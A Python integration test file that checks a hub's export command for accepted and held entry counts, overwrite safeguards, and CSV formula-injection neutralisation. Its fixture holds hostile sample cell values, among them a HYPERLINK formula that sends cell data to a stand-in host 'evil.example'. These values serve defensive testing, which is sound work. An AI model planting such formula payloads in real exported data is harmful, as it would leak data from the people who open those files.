"""Exports: what they count (finding 5), what a spreadsheet would run (5), and what
``c1hub export`` may overwrite (6); and the running hub's reaction when its database file is
swapped or deleted under it (6).

Real hub processes; the exports run as the coordinator runs them, ``c1hub export``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest

from hub.protocol import entry
from hub.protocol.identity import fingerprint
from tests.helpers import ENTERED_AT
from tests.integration.procs import C1HUB, HubProc, Procs, run
from tests.security import forge
from tests.security.forge import Log
from tests.security.wire import push

FORMULAS = {
    # operator, note: what a hostile (or unlucky) operator types
    1: ('=HYPERLINK("http://evil.example/?d="&A1,"klik")', "biasa"),
    2: ("+6281234567", "biasa"),
    3: ("-Budi-", "@SUM(1+1)"),
    4: ("Budi", "\t=1+1"),
    5: ("Siti", "catatan"),
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Room:
    hub: HubProc
    ours: Log  # approved: 5 entries, with formulas in operator and note
    stranger: Log  # pending: 2 entries, held


@pytest.fixture(scope="module")
def room(module_procs: Procs) -> Room:
    hub = module_procs.hub("hub").start()
    ours, stranger = Log(14), Log(15)
    raws = []
    for n, (operator, note) in FORMULAS.items():
        f = forge.form(14_000_000 + n, operator=operator, note=note)
        raws.append(ours.append(entry.encode_body(f, ENTERED_AT)))
    for raws_ in (raws, stranger.extend(2)):
        r = push(hub.port, raws_)
        assert r.status == 200 and r.decoded()["rejected"] == [], r
    run(C1HUB, "approve", "--data", hub.data, fingerprint(ours.public))
    return Room(hub, ours, stranger)


def export(data: Path, *args: str | Path, check: bool = True) -> str:
    out: str = run(C1HUB, "export", "--data", data, *args, check=check).stdout
    return out


# -- finding 5: what an export counts, and what a spreadsheet would run --------------------


def test_csv_export_counts_accepted_entries_unless_asked(room: Room) -> None:
    rows = list(csv.DictReader(io.StringIO(export(room.hub.data, "--format", "csv"))))
    assert rows and "state" in rows[0], list(rows[0]) if rows else rows
    assert [r["state"] for r in rows] == ["accepted"] * 5
    assert {r["device"] for r in rows} == {fingerprint(room.ours.public)}
    every = export(room.hub.data, "--format", "csv", "--include-held")
    rows = list(csv.DictReader(io.StringIO(every)))
    held = [r for r in rows if r["device"] == fingerprint(room.stranger.public)]
    assert len(rows) == 7 and [r["state"] for r in held] == ["held", "held"], rows


def test_jsonl_export_counts_accepted_entries_unless_asked(room: Room) -> None:
    lines = export(room.hub.data, "--format", "jsonl").splitlines()
    objs = [json.loads(line) for line in lines if line.strip()]
    assert [o.get("state") for o in objs] == ["accepted"] * 5, objs[:1]
    every = export(room.hub.data, "--format", "jsonl", "--include-held").splitlines()
    states = sorted(json.loads(line)["state"] for line in every if line.strip())
    assert states == ["accepted"] * 5 + ["held"] * 2


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(room: Room) -> None:
    rows = list(csv.reader(io.StringIO(export(room.hub.data, "--format", "csv"))))
    header, body = rows[0], rows[1:]
    ours = [r for r in body if r[header.index("device")] == fingerprint(room.ours.public)]
    assert len(ours) == 5
    for r in ours:
        for cell in r:
            assert not cell.startswith(DANGEROUS), (cell, r)
    by_seq = {int(r[header.index("seq")]): r for r in ours}
    for n, (operator, note) in FORMULAS.items():
        want_op = "'" + operator if operator.startswith(DANGEROUS) else operator
        want_note = "'" + note if note.startswith(DANGEROUS) else note
        assert by_seq[n][header.index("operator")] == want_op
        assert by_seq[n][header.index("note")] == want_note


# -- finding 6: c1hub export can destroy receipted data -------------------------------------


def test_a_failed_export_creates_and_changes_nothing(tmp_path: Path) -> None:
    typo = tmp_path / "hub-dat"  # not a data folder
    out = tmp_path / "export.csv"
    p = run(C1HUB, "export", "--data", typo, "--out", out, check=False)
    assert p.returncode != 0
    assert not out.exists(), f"a failed export left {out}: {out.read_bytes()[:80]!r}"
    precious = tmp_path / "precious.csv"
    precious.write_text("yesterday's export\n")
    p = run(C1HUB, "export", "--data", typo, "--out", precious, "--force", check=False)
    assert p.returncode != 0
    assert precious.read_text() == "yesterday's export\n"


def test_export_does_not_replace_a_file_unless_forced(room: Room, tmp_path: Path) -> None:
    precious = tmp_path / "precious.csv"
    precious.write_text("yesterday's export\n")
    p = run(C1HUB, "export", "--data", room.hub.data, "--out", precious, check=False)
    assert p.returncode != 0 and "--force" in p.stderr, (p.stdout, p.stderr)
    assert precious.read_text() == "yesterday's export\n"
    run(C1HUB, "export", "--data", room.hub.data, "--out", precious, "--force")
    assert precious.read_text().startswith("device,")


def test_export_refuses_an_output_inside_a_data_folder(procs: Procs) -> None:
    hub = procs.hub("hub").start()
    log = Log(16)
    assert push(hub.port, log.extend(3)).status == 200
    laptop = procs.laptop("laptop")
    before = (hub.data / "hub.db").stat()
    for out in (hub.data / "hub.db", hub.data / "export.csv", laptop / "export.csv"):
        for force in ((), ("--force",)):
            p = run(C1HUB, "export", "--data", hub.data, "--out", out, *force, check=False)
            assert p.returncode != 0 and "data folder" in p.stderr, (out, p.stderr)
    assert not (hub.data / "export.csv").exists() and not (laptop / "export.csv").exists()
    after = (hub.data / "hub.db").stat()
    assert (after.st_ino, after.st_size) == (before.st_ino, before.st_size)
    assert hub.head(log.public)["seq"] == 3
    r = push(hub.port, [log.append()])
    assert r.status == 200 and r.decoded()["accepted"] == 1, r


@pytest.mark.parametrize("how", ["deleted", "replaced"])
def test_hub_stops_accepting_when_its_database_file_goes(procs: Procs, how: str) -> None:
    hub = procs.hub("hub").start()
    log = Log(17)
    assert push(hub.port, log.extend(3)).status == 200
    db = hub.data / "hub.db"
    if how == "deleted":
        db.unlink()
    else:
        copy = hub.data.parent / "hub.db.old"
        shutil.copyfile(db, copy)
        os.replace(copy, db)
    r = push(hub.port, [log.append()])
    assert r.status == 503 and r.error["code"] == "unavailable", r
    assert not r.decoded().get("receipts"), "nothing unsaved may be receipted"
